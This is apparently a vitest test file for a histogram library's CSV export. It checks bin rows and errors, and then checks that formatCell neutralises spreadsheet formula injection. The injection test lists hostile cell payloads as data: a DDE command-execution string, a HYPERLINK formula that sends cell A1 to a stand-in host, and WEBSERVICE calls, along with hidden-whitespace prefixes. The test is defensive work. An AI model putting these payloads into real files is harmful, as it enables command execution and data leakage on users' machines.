import * as fc from "fast-check";
import { describe, expect, it } from "vitest";
import { fixedAxis, hist1D, hist2D, variableAxis } from "../../hist/build.ts";
import type { Hist, Profile1D } from "../../hist/hist.ts";
import { profileX } from "../../hist/profile.ts";

import { csvPieceCount, csvPieces, formatCell } from "./csv.ts";
import { binTable } from "./table.ts";

const lines = (hist: Hist): readonly string[] => [...csvPieces(binTable(hist))].join("").split("\r\n");

describe("a histogram as CSV", () => {
  it("has a row for each cell, flow included", () => {
    const hist = hist1D({ x: variableAxis([0, 0.5, 2], "#phi (rad)"), values: [4, 0.1], flow: [1, 9] });
    expect(lines(hist)).toEqual([
      '"x bin","φ (rad) from","φ (rad) to","content","error","flow"',
      '0,,0,1,1,"underflow"',
      "1,0,0.5,4,2,",
      "2,0.5,2,0.1,0.31622776601683794,",
      '3,2,,9,3,"overflow"',
      "",
    ]);
  });

  it("has the stored variances as errors, and labels", () => {
    const x = { ...fixedAxis(2, 0, 2), labels: ["a", ""] };
    const rows = lines(hist1D({ x, values: [4, 0], variances: [9, 16] }));
    expect(rows[0]).toBe('"x bin","x from","x to","x label","content","error","flow"');
    expect(rows.slice(2, 4)).toEqual(['1,0,1,"a",4,3,', "2,1,2,,0,4,"]);
  });

  it("of a map is in the order of the cells", () => {
    const cells = Float64Array.from({ length: 12 }, (_, cell) => cell);
    const rows = lines(hist2D({ x: fixedAxis(2, 0, 2, "a"), y: fixedAxis(1, 0, 1, "b"), cells }));
    expect(rows).toHaveLength(14);
    expect(rows[0]).toBe('"x bin","a from","a to","y bin","b from","b to","content","error","flow"');
    expect(rows[1]).toBe('0,,0,0,,0,0,0,"x underflow, y underflow"');
    expect(rows[6]).toBe(`1,0,1,1,0,1,5,${Math.sqrt(5)},`);
    expect(rows[12]).toBe(`3,2,,2,1,,11,${Math.sqrt(11)},"x overflow, y overflow"`);
  });

  it("of a profile has weight, mean and error; nothing where nothing was filled", () => {
    const map = hist2D({ x: fixedAxis(2, 0, 2), y: fixedAxis(4, 0, 4), rows: [[1, 0], [0, 0], [3, 0], [0, 0]] }); // prettier-ignore
    const profile: Profile1D = profileX(map);
    const rows = lines(profile);
    expect(rows[0]).toBe('"x bin","x from","x to","weight","mean","error","flow"');
    const [mean, spread] = [(0.5 + 3 * 2.5) / 4, Math.sqrt((0.25 + 3 * 6.25) / 4 - 4)];
    expect(rows[2]).toBe(`1,0,1,4,${mean},${spread / 2},`);
    expect(rows[3]).toBe("2,1,2,0,,,");
    expect(binTable(profile).row(2).slice(4, 6)).toEqual([undefined, undefined]);
  });

  it("comes in pieces that are the whole", () => {
    const hist = hist1D({ x: fixedAxis(12_000, 0, 1), values: new Float64Array(12_000).map((_, i) => i / 7) });
    const pieces = [...csvPieces(binTable(hist))];
    expect(pieces.length).toBeGreaterThan(3);
    expect(csvPieceCount(binTable(hist))).toBe(pieces.length);
    const rows = pieces.join("").trimEnd().split("\r\n").slice(1);
    expect(rows.map((row) => Number(row.split(",")[3]))).toEqual(Array.from(hist.values));
    expect(binTable(hist).count).toBe(rows.length);
  });
});

/** What spreadsheets were made to run, and how it is hidden. */
const calls = [
  "1+1",
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://canary.invalid/?"&A1,"x")',
  'WEBSERVICE("https://canary.invalid")',
  "IMPORTXML(1)",
  "SUM(A1:A9)",
];
const blanks = [Array.from("\t\r\n \u00a0\u200b\ufeff\v\f\0\u2028\u001b\u0085"), "\r\n"].flat();
const others = ["＝1", "＋1", "－1", "＠x", '=1",=2', '"=1', "=", "-", "\tx", "\rx"];
const formulas = [
  calls.flatMap((call) => ["=", "+", "-", "@"].map((sign) => sign + call)),
  blanks.flatMap((blank) => ["=1", "+1", "-1", "@x", "\t=1"].map((rest) => blank + rest)),
  others,
].flat();

describe("a cell of CSV", () => {
  it("is no formula", () => {
    expect(formulas.length).toBeGreaterThanOrEqual(100);
    for (const text of formulas) {
      const cell = formatCell(text);
      const inside = cell.slice(1, -1).replaceAll('""', '"');
      expect(cell, JSON.stringify(text)).toMatch(/^".*"$/);
      if (!text.startsWith('"')) expect(inside, JSON.stringify(text)).toMatch(/^'/);
    }
  });

  it("is one cell of one line, whatever it holds", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), (text) => {
        const cell = formatCell(text);
        if (text === "") expect(cell).toBe("");
        else expect(cell).toMatch(/^"(?:[^"\r\n]|"")*"$/);
        expect(cell).not.toMatch(/^"[\s]*[=+\-@\t\r]/);
      }),
    );
  });

  it("keeps numbers, negative ones too, and leaves out what is none", () => {
    expect([-1.5, 0, 1e-300, 0.1 + 0.2].map(formatCell)).toEqual(["-1.5", "0", "1e-300", "0.30000000000000004"]);
    expect([Number.NaN, Infinity, undefined, ""].map(formatCell)).toEqual(["", "", "", ""]);
  });

  it("keeps harmless words as they are", () => {
    expect(formatCell("d E/d x (arb. u.)")).toBe('"d E/d x (arb. u.)"');
    expect(formatCell('a "b", c')).toBe('"a ""b"", c"');
  });
});
